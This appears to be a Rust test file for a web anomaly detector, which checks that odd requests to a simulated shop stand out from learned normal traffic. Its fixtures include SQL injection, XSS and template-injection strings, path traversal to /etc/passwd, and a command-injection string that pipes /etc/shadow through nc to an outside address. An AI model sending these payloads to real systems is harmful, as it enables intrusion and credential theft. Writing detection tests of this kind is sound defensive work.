//! Requests of a small shop, and some that it never gets.

use estate::{Estate, Inventory};
use model::behavior::Measure;
use model::{Activity, ActivityKind, Names, Time};
use path::Seen;

use super::*;
use crate::behaviors::again;
use crate::{Behaviors, Settings, Subject};

struct Shop {
    requests: Requests,
    day: i32,
}

const SHOP: u64 = 1;

impl Shop {
    /// After so many days with forty customers each.
    fn after(days: i32) -> Shop {
        let mut shop = Shop { requests: Requests::default(), day: 0 };
        for day in 0..days {
            shop.day = day;
            for customer in 0..40 {
                shop.visit(1000 + customer, day as u64 * 40 + customer);
            }
        }
        shop.day = days;
        shop
    }

    fn visit(&mut self, source: u64, number: u64) {
        self.ask(source, "GET", "/", "200");
        self.ask(source, "GET", "/static/app.css", "200");
        self.ask(source, "GET", &format!("/item?id={}", number % 97 + 1), "200");
        self.ask(
            source,
            "GET",
            &format!("/search?q={}&page={}", ["shoes", "red+hat", "coat"][number as usize % 3], number % 5),
            "200",
        );
        self.ask(source, "POST", "/login", "302");
    }

    fn ask(&mut self, source: u64, method: &str, target: &str, status: &str) -> Oddness {
        let request =
            Request::of_target(target).and(Request::of_method(method)).and(Request::of_status(status));
        let asked = Asked { source, account: 0, application: SHOP, name: 0, path: target, request };
        self.requests.push(&asked, self.day)
    }
}

#[test]
fn a_statement_in_a_number_is_odd_and_another_number_is_not() {
    let mut shop = Shop::after(20);
    assert!(shop.ask(7, "GET", "/item?id=55%27+union+select+1,2--", "200").above > 2.0);
    assert_eq!(shop.ask(8, "GET", "/item?id=42", "200").above, 0.0);
}

#[test]
fn a_page_that_nobody_asked_for_before_with_a_method_of_its_own_is_odd() {
    let mut shop = Shop::after(20);
    let odd = shop.ask(7, "PUT", "/static/../../shell.jsp", "404");
    assert!(odd.above > 1.0, "{odd:?}");
}

#[test]
fn a_parameter_that_the_page_never_has_is_odder_than_its_own() {
    let mut shop = Shop::after(20);
    let own = shop.ask(7, "GET", "/item?id=3", "200");
    let other = shop.ask(7, "GET", "/item?id=3&debug=1", "200");
    assert!(other.raw > own.raw + 2.0, "{own:?} {other:?}");
}

#[test]
fn many_ordinary_requests_add_up_to_nothing() {
    let mut shop = Shop::after(20);
    let all: f32 =
        (0..300).map(|number| shop.ask(7, "GET", &format!("/item?id={number}"), "200").above).sum();
    assert!(all < 1.0, "{all}");
}

#[test]
fn on_its_first_day_an_application_is_only_learnt() {
    let mut shop = Shop::after(1);
    shop.day = 0;
    assert_eq!(shop.ask(7, "GET", "/item?id=55%27+union+select+1,2--", "500").above, 0.0);
}

#[test]
fn the_same_request_counts_once_a_day() {
    let mut shop = Shop::after(20);
    let target = "/item?id=%3cscript%3ealert(1)%3c/script%3e";
    assert!(shop.ask(7, "GET", target, "200").above > 0.0);
    assert_eq!(shop.ask(7, "GET", target, "200"), Oddness::default());
}

#[test]
fn who_scans_does_not_make_scanning_usual() {
    let mut quiet = Shop::after(20);
    let mut scanned = Shop::after(20);
    for number in 0..3000 {
        let target = format!("/item?id={number}%27%29+union+select+{number}--");
        scanned.ask(66, "GET", &target, "500");
    }
    for shop in [&mut quiet, &mut scanned] {
        shop.day += 1;
        for customer in 0..40 {
            shop.visit(1000 + customer, customer);
        }
    }
    let target = "/item?id=9%27%29+union+select+9--";
    let (before, after) = (quiet.ask(7, "GET", target, "500"), scanned.ask(7, "GET", target, "500"));
    assert!(before.above > 2.0 && after.above > before.above / 2.0, "{before:?} {after:?}");
}

#[test]
fn what_many_come_to_do_becomes_usual() {
    let mut shop = Shop::after(20);
    let target = "/new/report.aspx?from=2026-01-01&to=2026-02-01";
    assert!(shop.ask(7, "GET", target, "200").raw > 5.0);
    for _ in 0..10 {
        for customer in 0..40 {
            shop.visit(1000 + customer, customer);
            shop.ask(1000 + customer, "GET", target, "200");
        }
        shop.day += 1;
    }
    assert_eq!(shop.ask(7, "GET", target, "200").above, 0.0);
}

#[test]
fn applications_and_paths_without_end_stay_within_bounds() {
    let mut requests = Requests::default();
    for day in 0..3 {
        for number in 0..20_000u64 {
            let path = format!("/{number}/x{}y{day}", number * 7);
            let asked = Asked {
                source: number,
                account: 0,
                application: number,
                name: 0,
                path: &path,
                request: Request(number),
            };
            requests.push(&asked, day);
        }
    }
    assert!(requests.applications.len() <= 2 * MOST_APPLICATIONS);
}

/// A request of an address outside to the shop's server, through everything.
fn activity(names: &mut Names, day: i64, target: &str) -> Activity {
    let (path, _) = target.split_once('?').unwrap_or((target, ""));
    Activity {
        kind: ActivityKind::Web,
        time: Time::from_micros((day * 86_400 + 36_000) * 1_000_000),
        program: names.id(path),
        request: Request::of_target(target).and(Request::of_method("GET")).and(Request::of_status("200")),
        ..Activity::default()
    }
}

#[test]
fn who_sends_odd_requests_from_outside_has_a_day_that_stands_out() {
    let mut behaviors = Behaviors::new(Settings { per_day: 5.0, offset: 0 });
    let mut restored = Behaviors::new(Settings { per_day: 5.0, offset: 0 });
    let (mut estate, mut names) = (Estate::new(Inventory::default()), Names::default());
    let shop = estate.host("shop01");
    let mut ask = |from: String, day: i64, target: &str| {
        let activity = activity(&mut names, day, target);
        let from = estate.host_at(&from, activity.time);
        let seen = Seen { host: shop, from, ..Seen::default() };
        let surprises = behaviors.push(&activity, &seen, &names, &mut estate);
        let same = restored.push(&activity, &seen, &names, &mut estate);
        assert_eq!(format!("{surprises:?}"), format!("{same:?}"));
        restored = again(&restored);
        (from, surprises)
    };
    for day in 0..20 {
        for customer in 1..=40 {
            let from = || format!("203.0.113.{customer}");
            for target in
                ["/".to_owned(), format!("/item?id={}", customer * 7 % 90), "/search?q=red+hat".to_owned()]
            {
                let (_, surprises) = ask(from(), day, &target);
                assert!(surprises.is_empty(), "{surprises:?}");
            }
        }
    }
    let odd = [
        "/item?id=1%27%29+or+%271%27=%271",
        "/item?id=-1+union+select+1,2,load_file(%27/etc/passwd%27)--",
        "/item?id=%3cscript%3ealert(document.cookie)%3c/script%3e",
        "/item?id=1&debug=%24%7b7*7%7d",
        "/search?q=..%2f..%2f..%2fetc%2fpasswd%00",
        "/search?q=;cat+/etc/shadow|nc+192.0.2.9+80",
        "/admin/config.php?cmd=id%3bls+-la",
        "/item.bak",
    ];
    let mut found = Vec::new();
    for target in odd {
        let (from, surprises) = ask("198.51.100.7".to_owned(), 20, target);
        found.extend(surprises.into_iter().filter(|one| one.subject == Subject::Outside(from)));
    }
    let why = found.iter().flat_map(|one| &one.why).find(|why| why.measure == Measure::OddRequests);
    assert_eq!(why.map(|why| why.example.as_str()), Some("/item"), "{found:?}");
}
